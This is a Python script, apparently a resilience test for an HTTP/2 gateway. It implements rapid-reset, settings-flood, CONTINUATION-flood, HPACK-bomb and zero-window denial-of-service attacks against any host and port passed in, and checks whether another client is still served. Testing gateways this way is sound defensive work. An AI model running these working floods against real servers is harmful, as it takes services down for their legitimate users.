"""Attacks a gateway by HTTP/2, made with python3-h2: http2_attacks.py KIND HOST:PORT.

Says the code of the GOAWAY that the attacker got ("none" where nothing is wrong with what he does), and what
another visitor is answered who came before him.
"""
import socket
import sys

import h2.config
import h2.connection
import h2.events
import h2.settings
import hpack
from hyperframe.frame import ContinuationFrame, HeadersFrame

FIELDS = [(':method', 'GET'), (':scheme', 'http'), (':authority', 'shop.test')]
TIMES = 2000


class Visitor:
    def __init__(self, address):
        host, port = address.split(':')
        self.socket = socket.create_connection((host, int(port)), timeout=20)
        self.http2 = h2.connection.H2Connection()
        self.http2.initiate_connection()
        self.flush()

    def flush(self):
        self.socket.sendall(self.http2.data_to_send())

    def get(self, path):
        stream = self.http2.get_next_available_stream_id()
        self.http2.send_headers(stream, FIELDS + [(':path', path)], end_stream=True)
        return stream

    def send(self, *frames):
        self.socket.sendall(b''.join(frame.serialize() for frame in frames))

    def events(self):
        while data := self.socket.recv(65536):
            yield from self.http2.receive_data(data)
            self.flush()

    def first(self, kind):
        return next(event for event in self.events() if isinstance(event, kind))


def rapid_reset(attacker):
    for _ in range(TIMES):
        attacker.http2.reset_stream(attacker.get('/a'))
        attacker.flush()


def settings(attacker):
    for _ in range(TIMES):
        attacker.http2.update_settings({h2.settings.SettingCodes.MAX_FRAME_SIZE: 16384})
        attacker.flush()


def continuation(attacker):
    block = hpack.Encoder().encode(FIELDS + [(':path', '/a')])
    attacker.send(HeadersFrame(1, block, flags=['END_STREAM']))
    for _ in range(TIMES):
        attacker.send(ContinuationFrame(1, hpack.Encoder().encode([('a', 'b')])))


def hpack_bomb(attacker):
    """A field of 3 KB in the table, named 12,000 times by a byte each."""
    encoder = hpack.Encoder()
    block = encoder.encode(FIELDS + [(':path', '/a')]) + encoder.encode([('a', 'b' * 3000)])
    attacker.send(HeadersFrame(1, block + b'\xbe' * 12000, flags=['END_STREAM', 'END_HEADERS']))


def zero_window(attacker):
    """Every answer that it may ask for, of which it takes nothing."""
    attacker.http2.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    for _ in range(100):
        attacker.get('/large')
    attacker.flush()
    heads = 0
    for event in attacker.events():
        heads += isinstance(event, h2.events.ResponseReceived)
        if heads == 100:
            return


def main(kind, address):
    other = Visitor(address)
    attacker = Visitor(address)
    try:
        globals()[kind](attacker)
    except OSError:
        pass  # it was sent away meanwhile
    if kind == 'zero_window':
        print('none')
    else:
        print(int(attacker.first(h2.events.ConnectionTerminated).error_code))
    other.get('/a')
    other.flush()
    print(other.first(h2.events.DataReceived).data.decode())


main(*sys.argv[1:])
